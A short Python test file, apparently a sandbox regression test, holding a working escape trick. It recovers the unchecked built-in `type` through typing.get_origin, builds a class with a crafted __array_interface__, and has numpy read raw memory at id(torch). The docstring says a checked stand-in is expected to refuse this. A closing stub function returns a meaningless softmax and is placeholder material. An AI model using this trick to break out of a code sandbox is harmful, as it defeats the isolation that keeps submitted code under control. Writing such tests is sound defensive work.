"""Raw memory through the real `type`: typing.get_origin(typing.Type[int]) returns the built-in
`type` itself (no attribute read), whose three-argument call builds a class with
__array_interface__ that no namespace check sees; numpy then reads the memory at any address id()
gives, the start of a takeover. typing.get_origin hands out the checked stand-in of `type`
instead, which refuses the class."""

import numpy
import torch
import typing

REAL_TYPE = typing.get_origin(typing.Type[int])
X = REAL_TYPE("X", (object,), {"__array_interface__": {"data": (id(torch), True), "shape": (4,), "typestr": "<u8", "version": 3}})
print("READ", numpy.asarray(X()))


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    return torch.nn.functional.softmax(w_emb, dim=-1)
